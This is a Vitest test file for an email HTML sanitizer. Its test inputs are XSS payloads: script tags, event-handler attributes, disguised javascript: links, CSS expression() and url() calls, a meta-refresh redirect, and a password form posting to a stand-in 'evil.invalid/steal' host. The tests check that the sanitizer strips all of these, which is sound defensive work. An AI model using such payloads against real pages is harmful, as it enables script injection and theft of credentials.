import { describe, expect, it } from 'vitest';
import { sanitizeEmailHtml } from './sanitize-html';

const inlineImages: Record<string, string> = { 'logo@mail': '/api/attachments/11111111-1111-4111-8111-111111111111?t=abc' };

function clean(html: string, allowRemoteImages = false) {
  return sanitizeEmailHtml({ html, allowRemoteImages, resolveContentId: (cid) => inlineImages[cid] ?? null });
}

describe('sanitizeEmailHtml', () => {
  it('removes <script> elements and their code', () => {
    const { html } = clean('<p>Hi</p><script>alert(1)</script><SCRIPT src="https://evil.invalid/x.js"></SCRIPT>');
    expect(html).toBe('<p>Hi</p>');
  });

  it('removes event handler attributes such as onerror and onclick', () => {
    const { html } = clean('<img src="cid:logo@mail" onerror="alert(1)"><a href="https://ok.invalid" onclick="alert(2)" onmouseover="x()">x</a><body onload="y()">');
    expect(html).not.toMatch(/on(error|click|mouseover|load)/i);
    expect(html).not.toContain('alert');
  });

  it('removes javascript: and vbscript: links, however they are disguised', () => {
    for (const href of ['javascript:alert(1)', 'JaVaScRiPt:alert(1)', ' java\tscript:alert(1)', 'vbscript:msgbox(1)', '&#106;avascript:alert(1)']) {
      const { html } = clean(`<a href="${href}">link</a>`);
      expect(html).toBe('<a>link</a>');
    }
  });

  it('keeps web and mail links and opens them in a new tab without a referrer', () => {
    const { html } = clean('<a href="https://example.invalid/a?b=1&amp;c=2">web</a> <a href="mailto:jane@example.invalid">mail</a>');
    expect(html).toContain('<a href="https://example.invalid/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer">web</a>');
    expect(html).toContain('href="mailto:jane@example.invalid"');
  });

  it('drops links to paths on our own server', () => {
    expect(clean('<a href="/api/trpc/cases.update">x</a>').html).toBe('<a>x</a>');
  });

  it('removes iframes, objects, embeds, svg and math', () => {
    const { html } = clean(
      '<iframe src="https://evil.invalid"></iframe><object data="x.swf"></object><embed src="x.swf"><svg><script>alert(1)</script></svg><math><mi>x</mi></math>',
    );
    expect(html).not.toMatch(/<(iframe|object|embed|svg|math|script)/i);
  });

  it('removes forms and their controls but keeps the surrounding text', () => {
    const { html } = clean('<form action="https://evil.invalid/steal" method="post">Password: <input name="p"><button formaction="https://evil.invalid">Go</button><textarea>secret</textarea></form>');
    expect(html).not.toMatch(/<(form|input|button|textarea)/i);
    expect(html).not.toContain('evil.invalid');
    expect(html).toContain('Password:');
  });

  it('removes base, meta and link elements', () => {
    const { html } = clean(
      '<head><base href="https://evil.invalid/"><meta http-equiv="refresh" content="0;url=https://evil.invalid"><link rel="stylesheet" href="https://evil.invalid/x.css"></head><p>body</p>',
    );
    expect(html).toBe('<p>body</p>');
  });

  it('removes CSS expressions, url() and @import from style attributes and keeps the rest', () => {
    const { html } = clean(
      '<p style="color: red; width: expression(alert(1)); background: url(https://evil.invalid/t.png); font-weight: bold">x</p>',
    );
    expect(html).toBe('<p style="color:red;font-weight:bold">x</p>');
  });

  it('drops style attributes that hide url() behind CSS escapes', () => {
    expect(clean('<p style="background: u\\72 l(https://evil.invalid/t.png)">x</p>').html).toBe('<p>x</p>');
  });

  it('cleans <style> elements: url(), expression(), @import and @font-face go, the rules stay', () => {
    const { html } = clean(
      '<style>@import url(https://evil.invalid/a.css); @font-face { font-family: X; src: url(https://evil.invalid/f.woff) } ' +
        'p { color: blue; background-image: url("https://evil.invalid/t.png"); } td { width: expression(alert(1)) }</style><p>x</p>',
    );
    expect(html).not.toContain('evil.invalid');
    expect(html).not.toMatch(/expression|@import|@font-face/i);
    expect(html).toContain('color: blue');
  });

  it('blocks remote images with a placeholder and counts them', () => {
    const { html, remoteImages } = clean('<img src="https://tracker.invalid/p.gif" alt="Logo"><img src="//tracker.invalid/q.gif">');
    expect(remoteImages).toBe(2);
    expect(html).not.toContain('tracker.invalid');
    expect(html).toContain('[remote image blocked: Logo]');
  });

  it('keeps remote images when the agent allowed them for the message', () => {
    const { html, remoteImages } = clean('<img src="https://images.invalid/p.png"><img src="//images.invalid/q.png">', true);
    expect(remoteImages).toBe(2);
    expect(html).toContain('<img src="https://images.invalid/p.png" />');
    expect(html).toContain('<img src="https://images.invalid/q.png" />');
  });

  it('never loads an image from srcset or a background attribute', () => {
    const { html } = clean('<img src="cid:logo@mail" srcset="https://evil.invalid/a.png 2x"><table background="https://evil.invalid/b.png"><tr><td>x</td></tr></table>');
    expect(html).not.toContain('evil.invalid');
  });

  it('points cid: images at their attachment and keeps data: images', () => {
    const { html, remoteImages } = clean('<img src="cid:logo@mail" alt="logo"><img src="CID:%3Clogo@mail%3E"><img src="data:image/png;base64,iVBORw0KGgo=">');
    expect(remoteImages).toBe(0);
    expect(html.match(/src="\/api\/attachments\/11111111-1111-4111-8111-111111111111\?t=abc"/g)).toHaveLength(2);
    expect(html).toContain('src="data:image/png;base64,iVBORw0KGgo="');
  });

  it('shows a placeholder for a cid: image the message does not carry and for images on our own server', () => {
    const { html } = clean('<img src="cid:unknown@mail"><img src="/api/attachments/x">');
    expect(html).toContain('[missing image]');
    expect(html).not.toContain('/api/attachments/x');
  });

  it('escapes text so that markup inside it stays text', () => {
    expect(clean('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>').html).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>');
  });
});
